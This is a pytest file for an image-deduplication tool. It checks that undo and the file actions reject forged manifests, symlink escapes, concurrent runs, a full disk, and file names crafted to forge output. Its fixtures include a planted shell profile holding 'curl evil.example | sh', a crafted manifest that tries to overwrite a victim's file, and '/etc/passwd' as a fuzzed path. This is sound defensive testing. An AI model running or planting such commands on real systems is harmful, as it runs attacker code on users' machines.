"""Hostile input to file actions and undo (issue 22): crafted manifests, links out of the
library, two runs on one ``--to``, a full disk, and names that would forge plan lines."""

from __future__ import annotations

import errno
import json
import os
import stat
import subprocess
import threading
from pathlib import Path

import numpy as np
import pytest
from fakes import content_digest as _digest
from fakes import dedup_result as _result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from imageprism.actions import apply as actions  # apply_plan's module: tests patch its _place
from imageprism.actions import apply_plan, manifests_in, plan_actions, undo
from imageprism.actions._files import _key_path, _sign
from imageprism.cli import main
from imageprism.errors import ConfigError, UndoManifestError, UntrustedManifestError


def _write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def _tree(root: Path) -> dict[str, bytes]:
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def _crafted(
    path: Path, steps: list[dict], *, to: str, roots: list[str], sign=False, version=2
) -> Path:
    """An undo manifest as an attacker writes it (``sign``: as if made with the user's key;
    ``version`` 1: in imageprism 0.2's format, with no roots and no signature)."""
    data = {
        "format": "imageprism-undo",
        "version": version,
        "created": "2026-01-01T00:00:00+00:00",
        "action": steps[0]["action"],
        "keep": "first",
        "to": to,
        "roots": roots,
        "created_folders": [],
        "undoable": True,
        "note": "",
        "steps": [{"id": i, "skipped": None, "reason": None, **s} for i, s in enumerate(steps)],
    }
    if version == 1:
        del data["roots"], data["created_folders"]
    if sign:
        data["hmac_sha256"] = _sign(data)
    path.write_text(json.dumps(data))
    return path


def _step(action: str, path: Path, target: Path, keeper: Path, data: bytes) -> dict:
    return {
        "action": action,
        "path": str(path),
        "keeper": str(keeper),
        "target": str(target),
        "size": len(data),
        "digest": _digest(data),
        "keeper_digest": _digest(data),
        "status": "done",
    }


# -- item 1: the three manifest attacks of the issue ------------------------------------------


@pytest.mark.parametrize("version", [1, 2])
def test_a_crafted_hardlink_step_never_overwrites_the_victims_file(tmp_path, capsys, version):
    victim = _write(tmp_path / "victim" / "important.txt", b"the thesis")
    payload = b"attacker's bytes"
    evil = _write(tmp_path / "evil" / "payload", payload)
    step = _step("hardlink", victim, evil, victim, payload)
    manifest = _crafted(
        tmp_path / "evil" / "imageprism-undo.json",
        [step],
        to=str(tmp_path / "evil"),
        roots=[str(tmp_path / "victim")],
        version=version,
    )
    code, out, err = _run(capsys, "undo", str(manifest))
    assert code == 2 and out == "" and len(err.strip().splitlines()) == 1
    assert "not written by this user's imageprism" in err and "--trust-roots" in err
    assert str(tmp_path / "victim") in err  # the roots it would trust are shown
    assert victim.read_bytes() == b"the thesis" and evil.read_bytes() == payload

    # even trusted, undo never overwrites the file that is there
    code, out, err = _run(capsys, "undo", "--trust-roots", str(manifest))
    assert code == 1 and "trusting the folders" in err and "0 restored" in out
    assert "the path is taken by another file" in err
    assert victim.read_bytes() == b"the thesis" and evil.read_bytes() == payload


def test_a_crafted_move_step_never_plants_a_file_outside_the_recorded_roots(tmp_path, capsys):
    home = tmp_path / "home"
    home.mkdir()
    profile = b"curl evil.example | sh\n"
    planted = _write(tmp_path / "dupes" / "profile", profile)
    library = tmp_path / "pictures"
    library.mkdir()
    step = _step("move", home / ".bash_profile", planted, library / "keep.jpg", profile)
    for sign in (False, True):  # signed too: a path outside the roots is refused
        manifest = _crafted(
            tmp_path / "dupes" / f"imageprism-undo-{sign}.json",
            [step],
            to=str(tmp_path / "dupes"),
            roots=[str(library)],
            sign=sign,
        )
        with pytest.raises(UndoManifestError, match="outside its roots") as caught:
            undo(manifest, trust_roots=True)
        assert "nothing was changed" in str(caught.value)
        code, _, err = _run(capsys, "undo", "--trust-roots", str(manifest))
        assert code == 2 and ".bash_profile" in err and "outside its roots" in err
    assert not (home / ".bash_profile").exists() and planted.read_bytes() == profile


@pytest.mark.parametrize("version", [1, 2])
def test_to_the_root_folder_removes_no_folder_the_run_did_not_create(tmp_path, capsys, version):
    empty = tmp_path / "somewhere" / "empty"
    empty.mkdir(parents=True)
    library = tmp_path / "pictures"
    copy = _write(library / "copy.jpg", b"copy")
    step = _step("move", copy, empty / "copy.jpg", library / "keep.jpg", b"copy")
    manifest = _crafted(tmp_path / "m.json", [step], to="/", roots=[str(library)], version=version)
    code, _, err = _run(capsys, "undo", str(manifest))
    assert code == 2 and "not written by this user's imageprism" in err
    with pytest.raises(UndoManifestError, match="not a plain absolute folder below /"):
        undo(manifest, trust_roots=True)
    data = json.loads(manifest.read_text())
    data["created_folders"] = [str(empty), str(empty.parent)]
    data["hmac_sha256"] = _sign(data)  # even signed: "/" is no root
    manifest.write_text(json.dumps(data))
    with pytest.raises(UndoManifestError, match="not a plain absolute folder below /"):
        undo(manifest)
    assert empty.is_dir() and copy.exists()


def test_undo_removes_only_the_folders_its_run_created(tmp_path):
    library = tmp_path / "pictures"
    paths = [
        _write(library / "keep.jpg", b"same"),
        _write(library / "a" / "b" / "copy.jpg", b"same"),
        _write(library / "c" / "copy.jpg", b"same"),
    ]
    dupes = tmp_path / "dupes"
    (dupes / "a" / "b").mkdir(parents=True)  # there before the run, left empty by undo
    (dupes / "mine").mkdir()
    outcome = apply_plan(plan_actions(_result(paths, [[0, 1, 2]]), action="move", to=dupes))
    data = json.loads(Path(outcome.manifest).read_text())
    assert data["created_folders"] == [str(dupes / "c")]
    assert not undo(outcome.manifest).failed
    assert (dupes / "a" / "b").is_dir() and (dupes / "mine").is_dir()
    assert not (dupes / "c").exists() and paths[1].read_bytes() == b"same"


def test_an_edited_or_another_users_manifest_is_refused_before_any_file_moves(
    tmp_path, monkeypatch
):
    library = tmp_path / "pictures"
    paths = [_write(library / "keep.jpg", b"same"), _write(library / "copy.jpg", b"same")]
    outcome = apply_plan(
        plan_actions(_result(paths, [[0, 1]]), action="move", to=tmp_path / "dupes")
    )
    manifest = Path(outcome.manifest)
    moved = tmp_path / "dupes" / "copy.jpg"
    key = _key_path()
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    signed = manifest.read_text()

    edited = json.loads(signed)
    edited["note"] = "an edit"
    manifest.write_text(json.dumps(edited))
    with pytest.raises(UntrustedManifestError) as caught:
        undo(manifest)
    assert caught.value.roots == [str(library)] and caught.value.to == str(tmp_path / "dupes")

    manifest.write_text(signed)
    monkeypatch.setenv("IMAGEPRISM_CONFIG_DIR", str(tmp_path / "another-user"))
    with pytest.raises(UntrustedManifestError):
        undo(manifest)
    assert moved.exists() and not paths[1].exists()  # nothing was touched

    monkeypatch.setenv("IMAGEPRISM_CONFIG_DIR", str(key.parent))
    assert [o.status for o in undo(manifest).outcomes] == ["restored"]


def test_a_0_2_manifest_is_undone_only_with_trust_roots_which_prints_them(tmp_path, capsys):
    library = tmp_path / "pictures"
    paths = [_write(library / "keep.jpg", b"same"), _write(library / "sub" / "c.jpg", b"same")]
    outcome = apply_plan(
        plan_actions(_result(paths, [[0, 1]]), action="move", to=tmp_path / "dupes")
    )
    data = json.loads(Path(outcome.manifest).read_text())
    for field in ("roots", "created_folders", "hmac_sha256"):
        del data[field]
    data["version"] = 1
    old = tmp_path / "dupes" / "imageprism-undo.json"
    old.write_text(json.dumps(data))
    Path(outcome.manifest).unlink()
    code, _, err = _run(capsys, "undo", str(old))
    assert code == 2 and "--trust-roots" in err and not paths[1].exists()
    code, out, err = _run(capsys, "undo", "--trust-roots", str(old))
    assert code == 0 and out.splitlines()[-1].startswith("1 restored")
    assert f"trusting the folders {old} records (--trust-roots)" in err
    assert str(library / "sub") in err and paths[1].read_bytes() == b"same"


# -- item 2: links never followed out of the library ------------------------------------------


def _linked_library(tmp_path: Path) -> tuple[Path, Path, list[Path]]:
    """``lib/ext -> ../outside``: a duplicate reached through the link, outside the library."""
    library, outside = tmp_path / "lib", tmp_path / "outside"
    keep = _write(library / "keep.jpg", b"photo")
    far = _write(outside / "photo_outside.jpg", b"photo")
    (library / "ext").symlink_to(outside, target_is_directory=True)
    return library, outside, [keep, library / "ext" / "photo_outside.jpg", far]


@pytest.mark.parametrize("action", ["delete", "move", "hardlink"])
def test_a_file_reached_through_a_link_out_of_the_library_is_never_acted_on(tmp_path, action):
    library, _, paths = _linked_library(tmp_path)
    plan = plan_actions(
        _result(paths[:2], [[0, 1]]),
        action=action,
        to=tmp_path / "dupes",
        allow_delete=True,
        roots=[library],
    )
    assert plan.steps[0].skipped.startswith("reached through a link out of the library roots")
    outcome = apply_plan(plan)
    assert [o.status for o in outcome.outcomes] == ["skipped"]
    assert paths[2].read_bytes() == b"photo"


def test_a_folder_replaced_by_a_link_after_planning_is_checked_again(tmp_path):
    library, outside = tmp_path / "lib", tmp_path / "outside"
    keep = _write(library / "keep.jpg", b"photo")
    copy = _write(library / "sub" / "copy.jpg", b"photo")
    plan = plan_actions(
        _result([keep, copy], [[0, 1]]), action="delete", allow_delete=True, to=tmp_path / "d"
    )
    assert plan.steps[0].skipped is None
    (library / "sub").rename(outside)  # the same bytes now lie outside, reached by a link
    (library / "sub").symlink_to(outside, target_is_directory=True)
    outcome = apply_plan(plan)
    assert outcome.failed[0].reason.startswith("reached through a link out of the library")
    assert (outside / "copy.jpg").read_bytes() == b"photo"


def test_undo_never_follows_a_link_that_replaced_an_original_folder(tmp_path):
    library, outside = tmp_path / "lib", tmp_path / "outside"
    outside.mkdir()
    paths = [_write(library / "keep.jpg", b"photo"), _write(library / "sub" / "c.jpg", b"photo")]
    outcome = apply_plan(
        plan_actions(_result(paths, [[0, 1]]), action="move", to=tmp_path / "dupes")
    )
    (library / "sub").rmdir()
    (library / "sub").symlink_to(outside, target_is_directory=True)
    restored = undo(outcome.manifest)
    assert [o.status for o in restored.outcomes] == ["failed"]
    assert "through a link" in restored.outcomes[0].reason
    assert list(outside.iterdir()) == [] and (tmp_path / "dupes" / "sub" / "c.jpg").exists()


def test_a_link_planted_in_to_is_never_followed(tmp_path):
    library, outside = tmp_path / "lib", tmp_path / "outside"
    outside.mkdir()
    paths = [_write(library / "keep.jpg", b"photo"), _write(library / "sub" / "c.jpg", b"photo")]
    plan = plan_actions(_result(paths, [[0, 1]]), action="move", to=tmp_path / "dupes")
    (tmp_path / "dupes").mkdir()
    (tmp_path / "dupes" / "sub").symlink_to(outside, target_is_directory=True)
    outcome = apply_plan(plan)
    assert [o.status for o in outcome.outcomes] == ["failed"]
    assert list(outside.iterdir()) == [] and paths[1].exists()


def _pictures(folder: Path) -> dict[str, Path]:
    """Two pictures, each with a smaller re-saved copy in ``copies``: two groups of two."""
    rng = np.random.default_rng(1)
    paths = {}
    for name in ("sea", "hill"):
        small = rng.integers(0, 256, (8, 8, 3), dtype=np.uint8)
        picture = Image.fromarray(small).resize((320, 240), Image.Resampling.BICUBIC)
        paths[name] = folder / f"{name}.png"
        paths[name].parent.mkdir(parents=True, exist_ok=True)
        picture.save(paths[name])
        paths[f"{name}-copy"] = folder / "copies" / f"{name}-small.jpg"
        paths[f"{name}-copy"].parent.mkdir(exist_ok=True)
        picture.resize((160, 120)).save(paths[f"{name}-copy"], quality=90)
    return paths


def test_to_inside_the_library_is_refused_when_files_are_listed(tmp_path, capsys):
    paths = _pictures(tmp_path / "lib")
    for to in (tmp_path / "lib" / "dupes", tmp_path / "lib" / "copies" / "dupes"):
        code, _, err = _run(
            capsys, "dedup", *map(str, paths.values()), "--action", "move", "--to", str(to)
        )
        assert code == 2 and "is inside" in err and len(err.strip().splitlines()) == 1
        assert not to.exists()
    with pytest.raises(ConfigError, match="inside the library"):
        plan_actions(
            _result(list(paths.values()), [[0, 1]]), action="move", to=tmp_path / "lib" / "d"
        )


# -- item 2: two runs on one --to --------------------------------------------------------------


def test_two_concurrent_runs_on_one_to_each_keep_their_manifest(tmp_path, capsys):
    """Both libraries have the same layout, so both plans want the same names in ``to``."""
    dupes = tmp_path / "dupes"
    libraries = []
    for run in range(2):
        paths = [
            _write(tmp_path / f"lib{run}" / f"f{i}" / f"{j}.jpg", f"{run}-{i}".encode())
            for i in range(20)
            for j in range(2)
        ]
        libraries.append((paths, _tree(tmp_path / f"lib{run}")))
    plans = [
        plan_actions(_result(paths, [[i, i + 1] for i in range(0, 40, 2)]), action="move", to=dupes)
        for paths, _ in libraries
    ]
    start = threading.Barrier(2)
    outcomes = [None, None]

    def apply(number: int) -> None:
        start.wait()
        outcomes[number] = apply_plan(plans[number])

    threads = [threading.Thread(target=apply, args=(n,)) for n in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert all(not o.failed for o in outcomes)  # a name the other run took: the next free one
    targets = [o.target for outcome in outcomes for o in outcome.outcomes]
    assert len(set(targets)) == 40 and all(Path(t).is_file() for t in targets)
    assert sorted(manifests_in(dupes)) == sorted(Path(o.manifest) for o in outcomes)
    code, _, err = _run(capsys, "undo", str(dupes))  # two manifests: say which
    assert code == 2 and "2 undo manifests" in err and "give the one to undo" in err
    code, _, err = _run(capsys, "undo", str(dupes / "imageprism-undo.json"))  # 0.2's name
    assert code == 2 and "2 undo manifests" in err
    for outcome in outcomes:
        code, out, _ = _run(capsys, "undo", outcome.manifest)
        assert code == 0 and out.splitlines()[-1].startswith("20 restored")
    for run, (_, before) in enumerate(libraries):
        assert _tree(tmp_path / f"lib{run}") == before


# -- item 3: a full disk ----------------------------------------------------------------------


def test_a_full_disk_names_the_file_says_how_far_it_got_and_how_to_undo(
    tmp_path, capsys, monkeypatch
):
    paths = _pictures(tmp_path / "lib")
    real_place = actions._place
    calls = []

    def place(source, destination, **kwargs):
        calls.append(destination)
        if len(calls) == 2:
            raise OSError(errno.ENOSPC, "No space left on device", str(destination) + ".part")
        return real_place(source, destination, **kwargs)

    monkeypatch.setattr(actions, "_place", place)
    dupes = tmp_path / "dupes"
    code, out, err = _run(
        capsys, "dedup", str(tmp_path / "lib"), "--action", "move", "--to", str(dupes)
    )
    assert code == 1 and "1 of 2 moved; stopped: cannot write" in out
    lines = err.strip().splitlines()
    assert lines[0].startswith(f"imageprism: cannot move {tmp_path / 'lib'}")
    assert f"to {calls[1]}" in lines[0] and "No space left on device" in lines[0]
    assert "1 of 2 moved; stopped: cannot write" in lines[-1]
    assert "undo with: imageprism undo " in lines[-1]
    manifest = lines[-1].split("undo with: imageprism undo ")[1]
    code, _, _ = _run(capsys, "undo", manifest)
    assert code == 0 and all(p.exists() for p in paths.values())


def test_a_full_disk_stops_the_run_and_every_file_stays_recoverable(tmp_path, monkeypatch):
    library = tmp_path / "lib"
    paths = [
        _write(library / f"{i:02}-{j}.jpg", bytes([i]) * 100) for i in range(6) for j in (0, 1)
    ]
    before = _tree(library)
    real_link, real_rename = os.link, os.rename
    links = []

    def link(source, destination, **kwargs):
        if not str(destination).startswith(str(tmp_path / "d")):  # e.g. the new undo key
            return real_link(source, destination, **kwargs)
        links.append(destination)
        if len(links) == 3:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_link(source, destination, **kwargs)

    def rename(source, destination):  # the fallback when a link fails: no room either
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(actions.os, "link", link)
    monkeypatch.setattr(actions.os, "rename", rename)
    plan = plan_actions(
        _result(paths, [[i, i + 1] for i in range(0, 12, 2)]), action="move", to=tmp_path / "d"
    )
    outcome = apply_plan(plan)
    monkeypatch.setattr(actions.os, "link", real_link)
    monkeypatch.setattr(actions.os, "rename", real_rename)
    assert [o.status for o in outcome.outcomes] == ["done"] * 2 + ["failed"] * 4
    assert outcome.stopped == f"cannot write {plan.steps[2].target}: No space left on device"
    assert outcome.outcomes[3].reason.startswith("not attempted: cannot write")
    assert len(links) == 3  # nothing tried after the full disk
    assert not undo(outcome.manifest).failed and _tree(library) == before


@pytest.fixture
def small_tmpfs(tmp_path: Path):
    """A 256 KiB tmpfs (mounted as root), unmounted afterwards."""
    mount = tmp_path / "small"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)],
        capture_output=True,
        text=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here (needs root): {done.stderr.strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


@pytest.mark.machine_dependent_skip
def test_a_move_onto_a_full_tmpfs_stops_names_the_file_and_undo_restores_all(
    tmp_path, capsys, small_tmpfs
):
    library = tmp_path / "lib"
    paths = [
        _write(library / f"g{i:02}" / f"{j}.jpg", os.urandom(16) * 2048 + bytes([i]))
        for i in range(16)
        for j in (0, 1)
    ]
    for i in range(16):
        paths[2 * i + 1].write_bytes(paths[2 * i].read_bytes())
    before = _tree(library)
    dupes = small_tmpfs / "dupes"
    plan = plan_actions(
        _result(paths, [[i, i + 1] for i in range(0, 32, 2)]), action="move", to=dupes
    )
    outcome = apply_plan(plan)
    done = sum(o.status == "done" for o in outcome.outcomes)
    assert 0 < done < 16 and outcome.stopped is not None
    failed = outcome.outcomes[done]
    assert outcome.stopped == f"cannot write {failed.target}: No space left on device"
    assert not list(dupes.rglob("*.imageprism-part"))  # no half copy left behind
    restored = undo(outcome.manifest)
    assert not restored.failed and _tree(library) == before


# -- item 4: names printed safely -------------------------------------------------------------

_FORGED = "c.jpg\n  delete thesis.pdf"
_ANSI = "\x1b[2J\x1b[31mred.jpg"


def test_plan_summary_and_undo_escape_names_and_json_keeps_them_raw(tmp_path, capsys):
    paths = _pictures(tmp_path / "lib")
    forged = paths["sea-copy"].with_name(_FORGED)
    paths["sea-copy"].rename(forged)
    ansi = paths["hill-copy"].with_name(_ANSI)
    paths["hill-copy"].rename(ansi)
    args = ["dedup", str(tmp_path / "lib"), "--action", "move", "--to", str(tmp_path / "d")]
    code, out, _ = _run(capsys, *args, "--dry-run")
    assert code == 0 and "\x1b" not in out
    assert not [line for line in out.splitlines() if line.startswith("  delete")]
    assert "c.jpg\\n  delete thesis.pdf" in out and "\\x1b[2J\\x1b[31mred.jpg" in out

    code, out, _ = _run(capsys, *args, "--dry-run", "--json")
    sources = json.loads(out)["sources"]
    assert str(forged) in sources and str(ansi) in sources

    code, out, err = _run(capsys, *args)
    assert code == 0 and "\x1b" not in out + err
    assert not [line for line in out.splitlines() if line.startswith("  delete")]
    manifest = out.split("undo with: imageprism undo ")[1].split()[0]
    code, out, err = _run(capsys, "undo", manifest)
    assert (
        code == 0
        and "\x1b" not in out + err
        and "delete thesis" not in out.replace("c.jpg\\n  delete thesis.pdf", "")
    )
    assert forged.exists() and ansi.exists()


def test_the_plan_text_escapes_names(tmp_path):
    keep = _write(tmp_path / "lib" / "keep.jpg", b"same")
    forged = _write(tmp_path / "lib" / _FORGED, b"same")
    plan = plan_actions(
        _result([keep, forged], [[0, 1]]), action="delete", allow_delete=True, to=tmp_path / "d"
    )
    assert plan.describe().splitlines() == [
        f"keep {keep}",
        f"  delete {tmp_path / 'lib'}/c.jpg\\n  delete thesis.pdf",
    ]
    assert plan.to_dict()["groups"][0]["steps"][0]["path"] == str(forged)


# -- fuzz: whatever a manifest holds, undo refuses it cleanly or stays inside -----------------

_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)
_step_values = st.fixed_dictionaries(
    {
        "action": st.sampled_from(["move", "hardlink", "delete", "report", "x"]),
        "path": st.sampled_from(["/etc/passwd", "LIB/a.jpg", "LIB/../x", "", "TO/a.jpg"]),
        "keeper": st.sampled_from(["LIB/k.jpg", "/", "TO/k.jpg"]),
        "target": st.sampled_from(["TO/a.jpg", "/tmp/x", "LIB/a.jpg", None, 3]),
        "status": st.sampled_from(["done", "pending", "skipped", "failed"]),
    }
)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    extra=st.dictionaries(
        st.sampled_from(["to", "roots", "version", "steps", "created_folders"]), _json, max_size=2
    ),
    steps=st.lists(_step_values, max_size=3),
    sign=st.booleans(),
)
def test_fuzzed_manifests_are_refused_cleanly_and_never_touch_a_file(tmp_path, extra, steps, sign):
    folder = tmp_path / "fuzz"
    library, to = folder / "lib", folder / "to"
    if not folder.exists():
        _write(library / "a.jpg", b"a")
        _write(library / "k.jpg", b"a")
        _write(to / "a.jpg", b"a")
    before = {k: v for k, v in _tree(folder).items() if k != "m.json"}
    swap = {"LIB": str(library), "TO": str(to)}
    steps = [
        {
            k: v.replace("LIB", swap["LIB"]).replace("TO", swap["TO"]) if isinstance(v, str) else v
            for k, v in s.items()
        }
        for s in steps
    ]
    data = {
        "format": "imageprism-undo",
        "version": 2,
        "to": str(to),
        "roots": [str(library)],
        "steps": steps,
        **extra,
    }
    if sign:
        data["hmac_sha256"] = _sign(data)
    manifest = folder / "m.json"
    manifest.write_text(json.dumps(data))
    try:
        undo(manifest)
    except UndoManifestError:
        assert {k: v for k, v in _tree(folder).items() if k != "m.json"} == before
    else:  # a valid signed manifest: whatever moved stayed inside lib and to
        after = {k: v for k, v in _tree(folder).items() if k != "m.json"}
        assert sorted(after.values()) == sorted(before.values())
        assert all(name.startswith(("lib/", "to/")) for name in after)


def test_the_undo_key_is_made_once_private_even_by_two_first_runs_at_once(tmp_path, monkeypatch):
    from imageprism.actions._files import _key

    monkeypatch.setenv("IMAGEPRISM_CONFIG_DIR", str(tmp_path / "config"))
    start = threading.Barrier(4)
    keys = []

    def make() -> None:
        start.wait()
        keys.append(_key(create=True))

    threads = [threading.Thread(target=make) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(keys) == 4 and len(set(keys)) == 1 and len(keys[0]) == 32
    assert [p.name for p in (tmp_path / "config").iterdir()] == ["undo.key"]
    assert stat.S_IMODE(_key_path().stat().st_mode) == 0o600


def test_a_journal_line_cannot_point_undo_outside_the_recorded_folders(tmp_path):
    library = tmp_path / "pictures"
    paths = [_write(library / "keep.jpg", b"same"), _write(library / "copy.jpg", b"same")]
    plan = plan_actions(_result(paths, [[0, 1]]), action="move", to=tmp_path / "dupes")
    outcome = apply_plan(plan)
    elsewhere = _write(tmp_path / "elsewhere" / "copy.jpg", b"same")
    journal = Path(outcome.manifest + ".journal")
    journal.write_text(json.dumps({"id": 0, "status": "pending", "target": str(elsewhere)}) + "\n")
    with pytest.raises(UndoManifestError, match="outside its 'to' folder"):
        undo(outcome.manifest)
    assert elsewhere.exists() and not paths[1].exists()
    journal.unlink()
    assert [o.status for o in undo(outcome.manifest).outcomes] == ["restored"]


def test_a_plan_made_without_roots_records_each_files_folder_and_is_undone(tmp_path):
    import dataclasses

    library = tmp_path / "pictures"
    paths = [_write(library / "keep.jpg", b"same"), _write(library / "a" / "c.jpg", b"same")]
    plan = plan_actions(_result(paths, [[0, 1]]), action="move", to=tmp_path / "dupes")
    outcome = apply_plan(dataclasses.replace(plan, roots=[]))
    recorded = json.loads(Path(outcome.manifest).read_text())["roots"]
    assert recorded == [str(library), str(library / "a")]
    assert [o.status for o in undo(outcome.manifest).outcomes] == ["restored"]


def test_hardlink_never_links_to_a_keeper_reached_through_a_link_out_of_the_library(tmp_path):
    library, outside = tmp_path / "lib", tmp_path / "outside"
    keeper = _write(library / "sub" / "keep.jpg", b"photo")
    copy = _write(library / "copy.jpg", b"photo")
    plan = plan_actions(
        _result([keeper, copy], [[0, 1]]), action="hardlink", to=tmp_path / "d", roots=[library]
    )
    (library / "sub").rename(outside)  # after the plan: the keeper now lies outside
    (library / "sub").symlink_to(outside, target_is_directory=True)
    outcome = apply_plan(plan)
    assert [o.status for o in outcome.outcomes] == ["failed"]
    assert "never linked to" in outcome.outcomes[0].reason
    assert copy.read_bytes() == b"photo" and os.lstat(copy).st_nlink == 1


def test_tests_keep_the_undo_key_out_of_the_real_home_folder(tmp_path):
    library = tmp_path / "pictures"
    paths = [_write(library / "keep.jpg", b"same"), _write(library / "copy.jpg", b"same")]
    apply_plan(plan_actions(_result(paths, [[0, 1]]), action="move", to=tmp_path / "dupes"))
    key = _key_path()
    assert key.is_file() and Path.home() not in key.parents
    assert os.environ["IMAGEPRISM_CONFIG_DIR"] == str(key.parent)


def test_the_keeper_policy_refuses_a_file_swapped_for_a_huge_one_without_reading_it(
    tmp_path, monkeypatch
):
    from imageprism.actions import choose_keeper
    from imageprism.errors import ImageLoadError

    small, huge = tmp_path / "small.png", tmp_path / "huge.png"
    Image.new("RGB", (8, 8), "red").save(small)
    with huge.open("wb") as sparse:  # 300 MB on paper, nothing on disk
        sparse.write(small.read_bytes())
        sparse.truncate(300 * 2**20)
    read_whole = Path.read_bytes

    def no_whole_reads(path):
        assert os.path.getsize(path) < 2**20, f"{path} was read whole"
        return read_whole(path)

    monkeypatch.setattr(Path, "read_bytes", no_whole_reads)
    assert choose_keeper([small, small], "highest-resolution") == 0
    with pytest.raises(ImageLoadError, match=r"huge\.png: .*max_file_bytes"):
        choose_keeper([huge, small], "highest-resolution")
